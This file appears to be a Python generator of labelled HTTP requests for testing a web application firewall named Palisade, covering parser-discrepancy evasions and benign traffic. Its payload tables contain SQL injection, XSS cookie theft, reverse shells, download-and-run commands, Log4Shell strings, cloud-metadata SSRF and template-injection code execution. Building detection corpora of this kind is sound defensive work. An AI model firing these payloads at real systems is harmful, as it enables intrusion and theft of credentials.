#!/usr/bin/env python3
"""Held-out HTTP corpus "parsers": parsing-discrepancy evasions for Palisade.

What it is
    A deterministic generator (stdlib only, fixed seed) of labelled HTTP
    requests in the JSONL shape of shared/corpora/README.md.  Every request is
    built so that a WAF's body/URL parser and the application framework's
    parser may disagree about what the request contains (multipart, JSON,
    urlencoded, XML and HTTP framing quirks, in the spirit of the 2025
    "WAFFLED" research and of PortSwigger's and Orange Tsai's work).

Applications / technologies
    Express + body-parser, qs, multer/busboy; Flask/Werkzeug; Django;
    FastAPI/Starlette; Spring Boot (Tomcat, Jackson, data binding);
    ASP.NET Core (System.Text.Json, Newtonsoft) and legacy ASP.NET on IIS;
    Laravel/Symfony and plain PHP; Rails/Rack; Go net/http, encoding/json
    and mime/multipart.

attacks mode (expect "detect")
    SQLi, XSS, path traversal, RFI, command injection, PHP wrappers and
    object injection, Log4Shell / Java deserialisation / SpEL / Spring4Shell,
    SSRF to metadata and internal services, XXE and XInclude, SSTI for
    Jinja2, Twig, Thymeleaf, FreeMarker, ERB, Nunjucks, NoSQL operator
    injection, LDAP filter injection, CRLF/header injection, request
    smuggling framings and scanner probes -- each carried in a parser quirk:
    multipart boundary/parameter/Content-Disposition tricks, RFC 2231
    filenames, missing final boundary, preamble/epilogue, bare-LF parts,
    per-part charsets and base64 transfer encoding, nested multipart/mixed;
    JSON duplicate keys, BOM, UTF-16/32, \\u escapes, comments, trailing
    commas, NaN, huge numbers, top-level arrays, JSON under other media
    types; urlencoded parameter pollution, bracket/dot names, semicolon
    separators, %00, %uXXXX, overlong UTF-8, double encoding, fullwidth
    (NFKC) forms and IBM037 (EBCDIC) bodies; XML encodings, CDATA splitting,
    character references, namespaces, processing instructions, XInclude;
    chunked bodies with extensions, method overrides, HTTP/1.0 without Host,
    absolute-form targets, ;jsessionid / matrix / "..;" path parameters,
    backslashes, encoded slashes and case variations.

benign mode (expect "pass")
    Legitimate traffic of the same applications using the same unusual but
    valid forms: browser and SDK multipart uploads with the real boundary
    formats of Chrome, Firefox, Safari, okhttp, curl, Go, Python requests,
    axios/form-data, .NET, Dart and Alamofire; non-ASCII filenames with
    filename*=UTF-8''; JSON with a BOM from .NET clients, JSON:API,
    merge-patch and JSON-patch bodies; repeated and bracketed query
    parameters, Rails/PHP nested params, semicolons in values, ISO-8859-1
    forms, XML with encoding declarations, chunked uploads, HTML-form method
    overrides, CSP reports, beacons.  About 15 % is category "dev-content":
    developers legitimately posting code, SQL, shell, templates, markup and
    query expressions in those bodies.

Written blind
    This generator was written without reading the Palisade rule set, its
    tests or test data, the proxy profiles or the other corpus generators,
    and without running or building the WAF.  Payloads and benign traffic
    come from public knowledge of real attacks and real clients only.

Run
    python3 scripts/corpus-parsers.py attacks > rulesets/tests/data/parsers-attacks.jsonl
    python3 scripts/corpus-parsers.py benign  > rulesets/tests/data/parsers-benign.jsonl
"""

import base64
import collections
import gzip
import json
import random
import string
import struct
import sys
import urllib.parse
import uuid
import zlib

SEED = 20250917
R = random.Random(SEED)
MODE = "attacks"
OUT = []
_SEQ = collections.Counter()

# ---------------------------------------------------------------------------
# generic helpers
# ---------------------------------------------------------------------------

ALNUM = string.ascii_letters + string.digits
HEX = "0123456789abcdef"


def tok(n, alphabet=ALNUM):
    return "".join(R.choice(alphabet) for _ in range(n))


def hexs(n):
    return tok(n, HEX)


def ruuid():
    return str(uuid.UUID(int=R.getrandbits(128), version=4))


def pick(seq):
    return R.choice(seq)


def q(s, safe=""):
    return urllib.parse.quote(s, safe=safe)


def qp(s, safe=""):
    return urllib.parse.quote_plus(s, safe=safe)


def form(pairs, plus=True, sep="&"):
    enc = qp if plus else q
    return sep.join(f"{enc(k, safe='[]')}={enc(v)}" for k, v in pairs)


def pct_bytes(b):
    return "".join("%%%02X" % x for x in b)


def u_encode(s):
    """IIS / legacy ASP.NET %uXXXX encoding of every non-alphanumeric char."""
    return "".join(c if c.isalnum() else "%%u%04X" % ord(c) for c in s)


def overlong(s):
    """Overlong 2-byte UTF-8 for '.', '/', '\\' (classic Java/IIS bypass)."""
    m = {".": "%c0%ae", "/": "%c0%af", "\\": "%c1%9c"}
    return "".join(m.get(c, q(c)) for c in s)


def fullwidth(s):
    """ASCII -> fullwidth forms, which NFKC normalises back to ASCII."""
    out = []
    for c in s:
        o = ord(c)
        if 0x21 <= o <= 0x7E:
            out.append(chr(o + 0xFEE0))
        elif c == " ":
            out.append("\u3000")
        else:
            out.append(c)
    return "".join(out)


def json_u(s, all_chars=False):
    """JSON string literal body with \\uXXXX escapes (of specials or all)."""
    out = []
    for c in s:
        if all_chars or not c.isalnum():
            out.append("\\u%04x" % ord(c))
        else:
            out.append(c)
    return "".join(out)


def jd(obj, **kw):
    return json.dumps(obj, ensure_ascii=False, **kw)


def _b(x):
    return x if isinstance(x, bytes) else x.encode("utf-8")


# ---------------------------------------------------------------------------
# clients, hosts, cookies
# ---------------------------------------------------------------------------

BROWSER_UA = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:126.0) Gecko/20100101 Firefox/126.0",
    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.6367.179 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36 Edg/124.0.2478.80",
]

UA = {
    "chrome": BROWSER_UA[0],
    "chrome-mac": BROWSER_UA[1],
    "firefox": BROWSER_UA[2],
    "safari": BROWSER_UA[4],
    "ios": BROWSER_UA[5],
    "android": BROWSER_UA[6],
    "okhttp": "okhttp/4.12.0",
    "curl": "curl/8.5.0",
    "go": "Go-http-client/1.1",
    "requests": "python-requests/2.31.0",
    "httpx": "python-httpx/0.27.0",
    "axios": "axios/1.6.8",
    "node": "node-fetch",
    "java": "Java-http-client/17.0.10",
    "apache": "Apache-HttpClient/4.5.14 (Java/17.0.10)",
    "dotnet": "ExampleSync/3.2.0 (.NET 8.0.4; Windows 10.0.19045)",
    "dart": "Dart/3.3 (dart:io)",
    "alamofire": "ExampleShop/5.2.1 (com.example.shop; build:412; iOS 17.4.1) Alamofire/5.8.1",
    "postman": "PostmanRuntime/7.37.3",
    "guzzle": "GuzzleHttp/7",
    "faraday": "Faraday v2.9.0",
    "dalvik": "Dalvik/2.1.0 (Linux; U; Android 13; SM-A536B Build/TP1A.220624.014)",
}

LANGS = ["en-US,en;q=0.9", "de-DE,de;q=0.9,en;q=0.8", "fr-FR,fr;q=0.9,en-US;q=0.8,en;q=0.7",
         "ja,en-US;q=0.9,en;q=0.8", "es-ES,es;q=0.9", "pt-BR,pt;q=0.9,en;q=0.8", "en-GB,en;q=0.9",
         "pl-PL,pl;q=0.9,en;q=0.8", "ru-RU,ru;q=0.9,en;q=0.8", "zh-CN,zh;q=0.9,en;q=0.8"]

FW = {
    "express": "api.example.com",
    "flask": "flask.example.org",
    "django": "www.example.org",
    "fastapi": "fastapi.example.net",
    "spring": "shop.example.com",
    "aspnet": "portal.example.net",
    "iis": "legacy.example.net",
    "laravel": "app.example.com",
    "php": "www.example.com",
    "symfony": "symfony.example.org",
    "rails": "rails.example.org",
    "go": "go.example.net",
}


def cookie_for(fw):
    if fw == "express":
        return f"connect.sid=s%3A{tok(32)}.{tok(43)}"
    if fw == "flask":
        return f"session=eyJ{tok(40)}.{tok(6)}.{tok(27)}"
    if fw == "django":
        return f"csrftoken={tok(32)}; sessionid={tok(32, string.ascii_lowercase + string.digits)}"
    if fw == "fastapi":
        return f"access_token=Bearer%20eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.{tok(60)}.{tok(43)}"
    if fw in ("spring",):
        return f"JSESSIONID={hexs(32).upper()}"
    if fw in ("aspnet", "iis"):
        return f".AspNetCore.Antiforgery.{tok(11)}=CfDJ8{tok(120)}; .AspNetCore.Session=CfDJ8{tok(80)}"
    if fw == "laravel":
        return f"XSRF-TOKEN=eyJpdiI6{tok(120)}%3D%3D; laravel_session=eyJpdiI6{tok(120)}%3D%3D"
    if fw in ("php", "symfony"):
        return f"PHPSESSID={tok(26, string.ascii_lowercase + string.digits)}"
    if fw == "rails":
        return f"_app_session={tok(180)}--{hexs(40)}"
    return f"session={tok(43)}"


def csrf_part(fw):
    """The CSRF token field each framework's forms carry (name, value) or None."""
    return {
        "django": ("csrfmiddlewaretoken", tok(64)),
        "rails": ("authenticity_token", tok(86) + "=="),
        "laravel": ("_token", tok(40)),
        "aspnet": ("__RequestVerificationToken", "CfDJ8" + tok(150)),
        "symfony": ("_csrf_token", tok(43)),
    }.get(fw)


def bh(host, ctype=None, path="/", fw=None, ua=None, xhr=False, cookie=True, extra=()):
    """Browser-like header list."""
    h = [["Host", host], ["User-Agent", ua or pick(BROWSER_UA)]]
    h.append(["Accept", "application/json, text/plain, */*" if xhr else
              "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"])
    h.append(["Accept-Language", pick(LANGS)])
    h.append(["Accept-Encoding", "gzip, deflate, br"])
    if ctype:
        h.append(["Content-Type", ctype])
        h.append(["Origin", f"https://{host}"])
    h.append(["Referer", f"https://{host}{path}"])
    if cookie and fw:
        h.append(["Cookie", cookie_for(fw)])
    h += [list(x) for x in extra]
    return h


def ah(host, ua, ctype=None, auth=None, accept="application/json", extra=()):
    """API-client header list."""
    h = [["Host", host], ["User-Agent", ua], ["Accept", accept]]
    if ctype:
        h.append(["Content-Type", ctype])
    if auth:
        h.append(["Authorization", auth])
    h += [list(x) for x in extra]
    return h


def bearer():
    return "Bearer eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCIsImtpZCI6I" + tok(10) + "In0." + tok(120) + "." + tok(86)


# ---------------------------------------------------------------------------
# body builders
# ---------------------------------------------------------------------------

def cd(name, filename=None, extra=""):
    s = f'Content-Disposition: form-data; name="{name}"'
    if filename is not None:
        s += f'; filename="{filename}"'
    return s + extra


def part(name, value, filename=None, ctype=None, more=()):
    h = [cd(name, filename)]
    if ctype:
        h.append("Content-Type: " + ctype)
    h += list(more)
    return (h, value)


def mp(boundary, parts, eol="\r\n", preamble=None, epilogue=None, close=True):
    """multipart body as bytes; parts are (header-lines, content)."""
    e = _b(eol)
    b = _b(boundary)
    out = bytearray()
    if preamble is not None:
        out += _b(preamble) + e
    for hdrs, content in parts:
        out += b"--" + b + e
        for hl in hdrs:
            out += _b(hl) + e
        out += e + _b(content) + e
    if close:
        out += b"--" + b + b"--" + e
    if epilogue is not None:
        out += _b(epilogue)
    return bytes(out)


def chunked(pieces, ext=None, trailers=()):
    out = bytearray()
    for i, p in enumerate(pieces):
        p = _b(p)
        e = ""
        if ext:
            e = ext[i % len(ext)] if isinstance(ext, (list, tuple)) else ext
        out += ("%x" % len(p)).encode() + _b(e) + b"\r\n" + p + b"\r\n"
    out += b"0\r\n"
    for t in trailers:
        out += _b(t) + b"\r\n"
    out += b"\r\n"
    return bytes(out)


BOUNDARY = {
    "chrome": lambda: "----WebKitFormBoundary" + tok(16),
    "safari": lambda: "----WebKitFormBoundary" + tok(16),
    "firefox": lambda: "----geckoformboundary" + hexs(32),
    "firefox-old": lambda: "-" * 27 + str(R.randrange(10 ** 28, 10 ** 29)),
    "okhttp": lambda: ruuid(),
    "curl": lambda: "-" * 24 + hexs(16),
    "go": lambda: hexs(60),
    "requests": lambda: hexs(32),
    "axios": lambda: "-" * 26 + str(R.randrange(10 ** 23, 10 ** 24)),
    "dotnet": lambda: ruuid(),
    "dart": lambda: "dart-http-boundary-" + tok(51, ALNUM + "+_.-"),
    "alamofire": lambda: "alamofire.boundary." + hexs(16),
    "apache": lambda: tok(R.randint(30, 40), ALNUM + "-_"),
    "javamail": lambda: "----=_Part_%d_%d.%d" % (R.randint(0, 99), R.randint(10 ** 8, 10 ** 9), R.randint(10 ** 12, 10 ** 13)),
}


# ---------------------------------------------------------------------------
# emitters
# ---------------------------------------------------------------------------

def _expect():
    return "detect" if MODE == "attacks" else "pass"


def _next_id(slug):
    _SEQ[slug] += 1
    return f"parsers/{MODE}/{slug}-{_SEQ[slug]:03d}"


def emit(slug, category, method, uri, headers, body=None, version="HTTP/1.1"):
    headers = [list(x) for x in headers]
    if isinstance(body, bytes):
        body = body.decode("utf-8")
    if body is not None and not any(x[0].lower() in ("content-length", "transfer-encoding") for x in headers):
        cl = str(len(body.encode("utf-8")))
        idx = next((i + 1 for i, x in enumerate(headers) if x[0].lower() == "content-type"), len(headers))
        headers.insert(idx, ["Content-Length", cl])
    rec = {"id": _next_id(slug), "set": "parsers", "category": category, "expect": _expect(),
           "method": method, "uri": uri, "version": version, "headers": headers}
    if body is not None:
        rec["body"] = body
    OUT.append(rec)


def raw(method, target, headers, body=b"", version="HTTP/1.1"):
    """Complete raw request. A ("Content-Length", None) header is filled in
    with the exact body length; if no Content-Length/Transfer-Encoding header
    is given and there is a body, one is appended."""
    body = _b(body)
    names = [n.lower() for n, _ in headers]
    hs = list(headers)
    if body and "content-length" not in names and "transfer-encoding" not in names:
        hs.append(("Content-Length", None))
    out = [f"{method} {target} {version}".encode("latin-1")]
    for n, v in hs:
        if v is None:
            v = str(len(body))
        out.append(_b(n) + b": " + (v if isinstance(v, bytes) else v.encode("latin-1")))
    return b"\r\n".join(out) + b"\r\n\r\n" + body


def emit_raw(slug, category, data):
    _check_raw(data)
    OUT.append({"id": _next_id(slug), "set": "parsers", "category": category, "expect": _expect(),
                "raw_b64": base64.b64encode(data).decode("ascii")})


def _check_raw(data):
    """Self-check: the framing of every raw request is exact."""
    head, sep, body = data.partition(b"\r\n\r\n")
    assert sep, "no end of head"
    lines = head.split(b"\r\n")
    assert len(lines[0].split(b" ")) == 3, lines[0]
    hdr = collections.defaultdict(list)
    for ln in lines[1:]:
        n, c, v = ln.partition(b":")
        assert c, ln
        hdr[n.strip().lower()].append(v.strip())
    te = b",".join(hdr.get(b"transfer-encoding", [])).lower()
    if b"content-length" in hdr:
        for v in hdr[b"content-length"]:
            assert int(v) == len(body), (v, len(body), lines[0])
    if b"chunked" in te:
        rest = body
        while True:
            size_line, s2, rest = rest.partition(b"\r\n")
            assert s2
            size = int(size_line.split(b";")[0].strip(), 16)
            if size == 0:
                while True:
                    tl, s3, rest = rest.partition(b"\r\n")
                    assert s3
                    if tl == b"":
                        break
                break
            assert rest[size:size + 2] == b"\r\n"
            rest = rest[size + 2:]
        if b"content-length" not in hdr:
            assert rest == b"", "trailing bytes after chunked body"
    elif b"content-length" not in hdr:
        assert body == b"", lines[0]


# ---------------------------------------------------------------------------
# ATTACKS
# ---------------------------------------------------------------------------

PS_CMD = base64.b64encode(
    "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.5/a.ps1')".encode("utf-16le")).decode()

PAY = {
    "sqli": [
        "1' UNION SELECT username,password FROM users-- -",
        "' OR '1'='1' -- ",
        "1 AND (SELECT 1 FROM (SELECT SLEEP(5))a)",
        "admin'/**/OR/**/1=1#",
        "1;DROP TABLE users--",
        "1' AND extractvalue(1,concat(0x7e,(SELECT version())))-- -",
        "-1 UNION ALL SELECT NULL,table_name,NULL FROM information_schema.tables--",
        "1'; WAITFOR DELAY '0:0:5'--",
        "1); SELECT pg_sleep(5)--",
        "' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects WHERE xtype='U'))--",
        "1' ORDER BY 12-- -",
        "x' AND updatexml(1,concat(0x3a,(SELECT user())),1) AND 'a'='a",
        "1 AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64",
        "'||(SELECT CASE WHEN (1=1) THEN TO_CHAR(1/0) ELSE NULL END FROM dual)||'",
        "') OR ('x'='x",
        "1' AND (SELECT 4521 FROM(SELECT COUNT(*),CONCAT(0x71,(SELECT database()),FLOOR(RAND(0)*2))x FROM information_schema.plugins GROUP BY x)a)-- -",
        "(CASE WHEN (SELECT substr(sqlite_version(),1,1))='3' THEN name ELSE price END)",
        "0 UNION SELECT 1,group_concat(sql),3 FROM sqlite_master--",
        "1' AND 1=(SELECT 1 FROM pg_sleep(5))--",
        "'; EXEC xp_cmdshell 'whoami'--",
    ],
    "xss": [
        "<script>alert(document.domain)</script>",
        "<img src=x onerror=alert(document.cookie)>",
        "<svg/onload=fetch('//203.0.113.7/c?'+document.cookie)>",
        "\"><iframe src=\"javascript:alert(1)\"></iframe>",
        "<details open ontoggle=alert(1)>",
        "javascript:alert(document.cookie)//",
        "<body onload=eval(atob('YWxlcnQoZG9jdW1lbnQuZG9tYWluKQ=='))>",
        "<a href=\"jav&#x09;ascript:alert(1)\">click</a>",
        "';alert(String.fromCharCode(88,83,83))//",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
        "<video><source onerror=\"alert(1)\"></video>",
        "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
        "</textarea><script src=//203.0.113.7/x.js></script>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "\" onmouseover=\"alert(document.cookie)\" x=\"",
        "<iframe srcdoc=\"&lt;script&gt;parent.alert(1)&lt;/script&gt;\"></iframe>",
    ],
    "lfi": [
        "../../../../etc/passwd",
        "....//....//....//....//etc/passwd",
        "/proc/self/environ",
        "..\\..\\..\\..\\windows\\win.ini",
        "../../../../../../proc/self/cmdline",
        "../../../WEB-INF/web.xml",
        "../../../../root/.ssh/id_rsa",
        "../../../.env",
        "../../../../var/log/nginx/access.log",
        "C:\\Windows\\System32\\drivers\\etc\\hosts",
        "../../../../etc/shadow",
        "/etc/passwd",
        "../../config/master.key",
        "../../../../home/app/.aws/credentials",
    ],
    "rfi": [
        "http://203.0.113.66/shell.txt?",
        "https://198.51.100.23/c99.php",
        "ftp://203.0.113.66/pub/r57.txt",
        "\\\\203.0.113.66\\share\\evil.php",
        "http://attacker.example.net/inc.txt?",
        "https://203.0.113.66/wso.txt%00",
    ],
    "rce": [
        "127.0.0.1; cat /etc/passwd",
        "example.com | id",
        "`id`",
        "$(curl -s http://203.0.113.5/x.sh|sh)",
        "x && wget http://198.51.100.23/b -O /tmp/b && sh /tmp/b",
        "192.0.2.1; nc -e /bin/sh 203.0.113.8 4444",
        ";cat${IFS}/etc/passwd",
        "& powershell -nop -w hidden -enc " + PS_CMD,
        "; bash -c 'bash -i >& /dev/tcp/203.0.113.8/4444 0>&1'",
        "a.png\nid",
        "|| ping -c 10 127.0.0.1 ||",
        "; python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.8\",4444));[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn(\"sh\")'",
        "| busybox nc 203.0.113.8 4444 -e sh",
        "$(sleep 10)",
        "; curl -d @/etc/passwd http://203.0.113.5/",
        "& type C:\\Windows\\win.ini",
    ],
    "ssti": [
        "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
        "{{request.application.__globals__.__builtins__.__import__('os').popen('cat /etc/passwd').read()}}",
        "{{''.__class__.__mro__[1].__subclasses__()}}",
        "{{lipsum.__globals__.os.popen('id').read()}}",
        "${T(java.lang.Runtime).getRuntime().exec('id')}",
        "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x",
        "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
        "{{['id']|filter('system')}}",
        "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}",
        "<%= `id` %>",
        "#set($rt=$x.class.forName('java.lang.Runtime'))#set($p=$rt.getRuntime().exec('id'))",
        "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
        "{% import os %}{{ os.popen('id').read() }}",
        "{{cycler.__init__.__globals__.os.popen('id').read()}}",
        "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}",
        "@(System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\"))",
        "<%= File.read('/etc/passwd') %>",
    ],
    "ssrf": [
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
        "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A",
        "http://[::ffff:a9fe:a9fe]/latest/meta-data/",
        "http://2852039166/latest/user-data",
        "http://10.0.0.5:8500/v1/agent/self",
        "dict://127.0.0.1:11211/stats",
        "http://169.254.170.2/v2/credentials",
        "http://100.100.100.200/latest/meta-data/ram/security-credentials/",
        "http://localhost:2375/containers/json",
        "http://0x7f000001:8080/actuator/env",
        "http://127.1:9200/_cat/indices",
        "http://[fd00:ec2::254]/latest/meta-data/",
        "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/",
        "file:///etc/passwd",
        "http://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets",
    ],
    "java": [
        "${jndi:ldap://203.0.113.66:1389/Exploit}",
        "${${lower:j}ndi:${lower:l}dap://203.0.113.66:1389/a}",
        "${${::-j}${::-n}${::-d}${::-i}:rmi://198.51.100.4:1099/o}",
        "${jndi:dns://203.0.113.66/${env:AWS_SECRET_ACCESS_KEY}}",
        "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//203.0.113.66/a}",
        "${jndi:${lower:l}${lower:d}a${lower:p}://203.0.113.66/${sys:java.version}}",
        "${${upper:j}ndi:ldaps://198.51.100.4/z}",
        "${jndi:ldap://127.0.0.1#203.0.113.66:1389/a}",
        "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://203.0.113.66/d}",
    ],
    "php": [
        "php://filter/convert.base64-encode/resource=index.php",
        "php://filter/read=string.rot13/resource=../config/database.php",
        "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==",
        "phar:///var/www/html/uploads/avatar.jpg/test.txt",
        "expect://id",
        "php://filter/convert.iconv.UTF8.CSISO2022KR|convert.base64-encode|convert.base64-decode/resource=php://temp",
        "zip:///var/www/html/uploads/logo.zip%23shell.php",
    ],
    "ldapi": [
        "*)(uid=*))(|(uid=*",
        "admin)(&)",
        "*)(|(objectClass=*)",
        "admin*)((|userPassword=*)",
        "jdoe)(|(memberOf=cn=Domain Admins,cn=Users,dc=example,dc=com)",
        "*)(|(mail=*)(cn=*",
        "x*)(|(description=*",
    ],
    "crlf": [
        "/%0d%0aSet-Cookie:%20session=attacker%3B%20Path=/",
        "%0d%0aLocation:%20https://evil.example.net/",
        "%E5%98%8A%E5%98%8DSet-Cookie:%20admin=1",
        "/home%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<script>alert(1)</script>",
        "%0aX-Forwarded-Host:%20evil.example.net",
    ],
}

# Laravel/PendingBroadcast (phpggc Laravel/RCE1 shape); \0 marks protected props
PHP_OBJ = ('O:40:"Illuminate\\Broadcasting\\PendingBroadcast":2:{s:9:"\0*\0events";'
           'O:15:"Faker\\Generator":1:{s:13:"\0*\0formatters";a:1:{s:8:"dispatch";s:6:"system";}}'
           's:8:"\0*\0event";s:2:"id";}')

# Java serialised stream header + start of a CommonsCollections-style HashMap
JAVA_SER_B64 = ("rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhwP0AAAAAAAAx3CAAAABAAAAABc3IADGphdmEubmV0LlVSTJYlNzYa/ORyAwAHSQAIaGFzaENvZGVJAARwb3J0TAAJYXV0aG9yaXR5dAASTGphdmEvbGFuZy9TdHJpbmc7TAAEZmlsZXEAfgADTAAEaG9zdHEAfgADTAAIcHJvdG9jb2xxAH4AA0wAA3JlZnEAfgADeHD//////////3QADDIwMy4wLjExMy42NnQAAHEAfgAFdAAEaHR0cHB4dAATaHR0cDovLzIwMy4wLjExMy42Nng=")

NOSQL = [
    {"username": {"$ne": None}, "password": {"$ne": None}},
    {"username": "admin", "password": {"$regex": ".*"}},
    {"$where": "sleep(5000) || true"},
    {"username": {"$gt": ""}, "password": {"$gt": ""}},
    {"email": {"$regex": "^a.*@example\\.com$"}, "password": {"$exists": True}},
    {"filter": {"$expr": {"$function": {"body": "function(){sleep(5000);return true}", "args": [], "lang": "js"}}}},
    {"username": "admin' || '1'=='1", "password": "x"},
    {"q": {"$where": "this.password.match(/^a/) != null"}},
    {"username": {"$in": ["admin", "root", "administrator"]}, "password": {"$nin": [""]}},
    {"pipeline": [{"$lookup": {"from": "users", "localField": "owner", "foreignField": "_id", "as": "leak"}}]},
]

FIELDS = {
    "sqli": ["id", "q", "search", "product_id", "sort", "category", "user_id", "order_by", "filter"],
    "xss": ["comment", "bio", "display_name", "message", "title", "name", "description"],
    "lfi": ["file", "path", "template", "page", "doc", "lang"],
    "rfi": ["url", "include", "page", "template"],
    "rce": ["host", "ip", "target", "domain", "filename"],
    "ssti": ["name", "greeting", "template", "subject", "message"],
    "ssrf": ["url", "webhook_url", "callback", "image_url", "feed", "avatar_url"],
    "java": ["username", "search", "q", "comment", "email"],
    "php": ["page", "file", "view", "include"],
    "ldapi": ["username", "uid", "user", "login"],
    "crlf": ["next", "redirect", "return_to", "url"],
}

EP = {
    "sqli": ["/api/products", "/search", "/api/v1/orders", "/reports/export", "/api/users/lookup"],
    "xss": ["/comments", "/api/profile", "/guestbook", "/api/posts", "/support/tickets"],
    "lfi": ["/download", "/api/files/view", "/docs/render", "/static/get"],
    "rfi": ["/index", "/modules/load", "/api/import"],
    "rce": ["/admin/tools/ping", "/api/diagnostics/traceroute", "/api/convert", "/admin/backup"],
    "ssti": ["/preview", "/api/email/templates/render", "/greeting", "/api/notifications/test"],
    "ssrf": ["/api/webhooks/test", "/api/fetch", "/api/import/url", "/api/avatar/from-url", "/proxy"],
    "java": ["/login", "/api/search", "/api/v2/events", "/api/feedback"],
    "php": ["/index", "/view", "/api/import"],
    "ldapi": ["/login", "/api/directory/search", "/auth/ldap"],
    "crlf": ["/logout", "/auth/callback", "/redirect"],
    "nosqli": ["/api/login", "/api/users/search", "/api/auth/session"],
}


class _Pool:
    def __init__(self, items, start=0):
        self.items = items
        self.i = start

    def next(self):
        v = self.items[self.i % len(self.items)]
        self.i += 1
        return v


POOLS = {}


SSTI_FW = {
    "jinja": [
        "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
        "{{request.application.__globals__.__builtins__.__import__('os').popen('cat /etc/passwd').read()}}",
        "{{''.__class__.__mro__[1].__subclasses__()}}",
        "{{lipsum.__globals__.os.popen('id').read()}}",
        "{{cycler.__init__.__globals__.os.popen('id').read()}}",
        "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fbuiltins\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')|attr('popen')('id')|attr('read')()}}",
        "{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}{{x()._module.__builtins__['__import__']('os').popen('id').read()}}{% endif %}{% endfor %}",
    ],
    "java": [
        "${T(java.lang.Runtime).getRuntime().exec('id')}",
        "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x",
        "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
        "#set($rt=$x.class.forName('java.lang.Runtime'))#set($p=$rt.getRuntime().exec('id'))",
        "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}",
        "${\"freemarker.template.utility.ObjectConstructor\"?new()(\"java.lang.ProcessBuilder\",\"id\").start()}",
    ],
    "php": [
        "{{['id']|filter('system')}}",
        "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}",
        "{system('id')}",
        "{{['cat /etc/passwd']|map('passthru')|join}}",
        "{php}echo `id`;{/php}",
    ],
    "ruby": ["<%= `id` %>", "<%= File.read('/etc/passwd') %>", "<%= system('cat /etc/passwd') %>",
             "#{%x(id)}"],
    "node": [
        "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
        "<%= global.process.mainModule.require('child_process').execSync('id') %>",
        "#{root.process.mainModule.require('child_process').spawnSync('id').stdout}",
        "{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub \"constructor\")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push \"return require('child_process').execSync('id');\"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}",
    ],
    "django": ["{{ messages.storages.0.signer.key }}", "{% debug %}", "{% load log %}{% get_admin_log 10 as log %}{% for e in log %}{{ e.user.password }}{% endfor %}",
